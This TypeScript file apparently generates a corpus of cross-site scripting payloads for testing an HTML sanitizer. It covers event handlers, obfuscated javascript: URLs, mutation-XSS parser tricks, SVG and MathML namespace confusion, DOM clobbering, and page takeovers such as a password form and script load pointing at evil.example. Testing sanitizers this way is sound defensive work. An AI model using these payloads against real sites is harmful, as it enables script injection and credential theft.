/**
 * Pieces of HTML that try to run something, load something or take over the page, generated in families so that a
 * gap in one place shows in many. If one of them runs in a page, `__broken` is set on its window.
 */
const PROBE = 'window.__broken=1';

const EVENTS = (
  'onerror onload onclick onmouseover onfocus onblur onanimationstart ontoggle onpointerenter onwheel oncopy ' +
  'onbeforeinput onscrollend onbegin formaction'
).split(' ');
const BEARERS = ['img src=x', 'p', 'a href="/"', 'table', 'svg', 'video src=x', 'details open', 'x-unknown'];

function eventHandlers(): string[] {
  return EVENTS.flatMap((event, place) =>
    BEARERS.map((bearer, turn) => {
      const separator = [' ', '/', '\n', '\t', '\f'][(place + turn) % 5];
      const quote = ['"', "'", ''][(place + turn) % 3];
      return `<${bearer}${separator}${event}=${quote}${PROBE}${quote}>text`;
    }),
  );
}

/** Spellings of `javascript:` and similar schemes that browsers have accepted. */
const SCRIPT_URLS = [
  `javascript:${PROBE}`,
  `JaVaScRiPt:${PROBE}`,
  ` javascript:${PROBE}`,
  `\u0001javascript:${PROBE}`,
  `java\tscript:${PROBE}`,
  `java\nscript:${PROBE}`,
  `java\u0000script:${PROBE}`,
  `&#106;avascript:${PROBE}`,
  `&#x6A&#x61vascript:${PROBE}`,
  `java&Tab;script&colon;${PROBE}`,
  `java&NewLine;script:${PROBE}`,
  `javascript&#58;${PROBE}`,
  `javascript&#0000058${PROBE}`,
  `\u00a0javascript:${PROBE}`,
  `vbscript:${PROBE}`,
  `livescript:${PROBE}`,
  `data:text/html,<script>${PROBE}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX19icm9rZW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PROBE}'/>`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/1`,
  `view-source:javascript:${PROBE}`,
  `//evil.example/`,
  `\\\\evil.example/`,
  `/\\evil.example/`,
  `/\t/evil.example/`,
  `https:evil`,
  `http://user:secret@evil.example/`,
  `intent://evil#Intent;scheme=javascript;end`,
  `x:${PROBE}`,
];
const URL_PLACES = [
  'a href',
  'img src',
  'img srcset',
  'area href',
  'form action',
  'iframe src',
  'a xlink:href',
];

function urls(): string[] {
  return SCRIPT_URLS.flatMap((url, place) => {
    const second = URL_PLACES[2 + (place % 5)] ?? 'a href';
    return ['a href', 'img src', second].map((where) => `<${where}="${url}">text`);
  });
}

function foreignNamespaces(): string[] {
  const inside = [
    `<script>${PROBE}</script>`,
    `<style><img src=x onerror=${PROBE}></style>`,
    `<title><img src=x onerror=${PROBE}></title>`,
    `<foreignObject><iframe src="javascript:${PROBE}"></iframe></foreignObject>`,
    `<desc><p><style><a title="</style><img src onerror=${PROBE}>">`,
    `<use href="data:image/svg+xml,<svg id=x onload=${PROBE}></svg>#x"/>`,
    `<a href="javascript:${PROBE}"><text>text</text></a>`,
    `<animate attributeName=href values="javascript:${PROBE}"/>`,
    `<set attributeName=onmouseover to=${PROBE}>`,
    `<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PROBE}&gt;">`,
    `<annotation-xml encoding="text/html"><script>${PROBE}</script></annotation-xml>`,
    `<maction actiontype="statusline" xlink:href="javascript:${PROBE}">text</maction>`,
    `<mi xlink:href="data:x,<script>${PROBE}</script>">text</mi>`,
    `<![CDATA[<img src=x onerror=${PROBE}>]]>`,
    `<p><svg><style><!--</style><img src=x onerror=${PROBE}>--></p>`,
  ];
  return inside.flatMap((content) => [
    `<svg>${content}</svg>`,
    `<math>${content}</math>`,
    `<svg></p>${content}`,
    `<math><mtext>${content}</mtext></math>`,
  ]);
}

/** Elements whose content is parsed by other rules, each opened and closed in several ways. */
function rawTextElements(): string[] {
  const raw = (
    'script style textarea title xmp iframe noembed noframes noscript plaintext template option listing select ' +
    'frameset'
  ).split(' ');
  return raw.flatMap((name) => [
    `<${name}><img src=x onerror=${PROBE}></${name}>`,
    `<${name}><p title="</${name}><img src=x onerror=${PROBE}>">`,
    `<${name}>&lt;/${name}&gt;&lt;img src=x onerror=${PROBE}&gt;</${name}>`,
    `<${name}/><script>${PROBE}</script>`,
    `<p><${name}><!--</${name}><img src=x onerror=${PROBE}>--></p>`,
  ]);
}

/** Markup that parsers read differently from each other, or from themselves the second time. */
const MUTATIONS = [
  `<table><td><form><table><tr><td></form><form><math><mtext></form><style></math><img src onerror=${PROBE}>`,
  `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=${PROBE}>`,
  `<p id="</p><img src=x onerror=${PROBE}>">`,
  `<img alt="\`\`onerror=${PROBE}" src=x>`,
  `<a title='"><img src=x onerror=${PROBE}>'>text</a>`,
  `<a href="/" title="&quot;&gt;&lt;img src=x onerror=${PROBE}&gt;">text</a>`,
  `<!--><img src=x onerror=${PROBE}>-->`,
  `<!---><img src=x onerror=${PROBE}>-->`,
  `<!-- --!><img src=x onerror=${PROBE}>`,
  `<!--[if gte IE 4]><script>${PROBE}</script><![endif]-->`,
  `<![CDATA[><script>${PROBE}</script>]]>`,
  `<?xml version="1.0"?><script>${PROBE}</script>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${PROBE}</script>">]>&x;`,
  `<img src="x"onerror=${PROBE}>`,
  `<img src=x onerror=${PROBE} `,
  `<img/src="x"/onerror=${PROBE}//`,
  `<img src='x' title='unclosed onerror=${PROBE}>text`,
  `<<img src=x onerror=${PROBE}>`,
  `<\u0000img src=x onerror=${PROBE}>`,
  `<im\u0000g src=x onerror=${PROBE}>`,
  `</p/onclick=${PROBE}><script>${PROBE}</script>`,
  `<scr<script>ipt>${PROBE}</scr</script>ipt>`,
  `<script\u000b>${PROBE}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script >${PROBE}</script\t\n bar>`,
  `&lt;script&gt;${PROBE}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${PROBE}&amp;gt;`,
  `<p>\ud800<img src=x onerror=${PROBE}></p>`,
  `＜script＞${PROBE}＜/script＞`,
  `<div><table><svg><tr><style><img src=x onerror=${PROBE}></style>`,
  `<b><p><b><p><b><p><img src=x onerror=${PROBE}>`,
  `<ul><li><table><li><img src=x onerror=${PROBE}></table>`,
  `<table><caption><svg><desc></caption><img src=x onerror=${PROBE}>`,
  `<h2><h3><a href="/"><a href="javascript:${PROBE}">text`,
  `${'<blockquote>'.repeat(600)}<svg><style><img src=x onerror=${PROBE}>`,
  `${'<p>'.repeat(600)}<math><mtext><img src=x onerror=${PROBE}>`,
];

/** Names and ids that shadow the page's own, and markup that navigates the page away. */
const TAKE_OVERS = [
  '<p id=body>text</p>',
  '<img src=/a.png name=cookie>',
  '<a id=location href="https://evil.example/"></a>',
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<form action="//evil.example/"><input type=password name=password><button>Log in</button></form>',
  '<a href="/" target=_blank ping="//evil.example/">text</a>',
  '<a href="/" target=_top rel=opener download>text</a>',
  '<base href="//evil.example/">',
  `<meta http-equiv=refresh content="0;url=javascript:${PROBE}">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=import href="//evil.example/x">',
  '<object data="//evil.example/x.swf"></object>',
  `<embed src="javascript:${PROBE}">`,
  `<applet code="${PROBE}"></applet>`,
  `<iframe srcdoc="<script>${PROBE}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${PROBE}&gt;">`,
  `<body onload=${PROBE} background="javascript:${PROBE}">`,
  `<html manifest="//evil.example/x" onload=${PROBE}>`,
  '<p style="position:fixed;inset:0;background:url(//evil.example/)">text</p>',
  `<p style="width:expression(${PROBE})">text</p>`,
  '<p class="modal" hidden>text</p>',
  '<p slot=x is=x-y contenteditable autofocus tabindex=0 accesskey=x>text</p>',
  `<details open ontoggle=${PROBE}><summary>text</summary></details>`,
  `<dialog open><a href="javascript:${PROBE}">text</a></dialog>`,
  `<video><source onerror=${PROBE}></video>`,
  `<audio src=x onerror=${PROBE}>`,
  '<picture><source srcset="//evil.example/x.png"><img src=/a.png></picture>',
  '<img src="https://evil.example/pixel.png">',
  '<img src="/a.png" srcset="//evil.example/x.png 2x" lowsrc="//evil.example/" dynsrc="//evil.example/">',
  '<img src="/a.png" width="100%" height="expression(1)" usemap="#x" crossorigin loading=eager>',
  '<td background="//evil.example/" colspan="99999" rowspan="-1">text</td>',
  `<marquee onstart=${PROBE}>text</marquee>`,
  `<isindex type=image src=1 onerror=${PROBE}>`,
  `<keygen autofocus onfocus=${PROBE}>`,
  `<input autofocus onfocus=${PROBE}>`,
  `<select autofocus onfocus=${PROBE}><option>text</option></select>`,
  `<x-element><template shadowrootmode=open><img src=x onerror=${PROBE}></template></x-element>`,
  `<template><script>${PROBE}</script></template>`,
  '<portal src="//evil.example/"></portal>',
];

/** All payloads; none is empty and none occurs twice. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...eventHandlers(),
    ...urls(),
    ...foreignNamespaces(),
    ...rawTextElements(),
    ...MUTATIONS,
    ...TAKE_OVERS,
  ]),
];
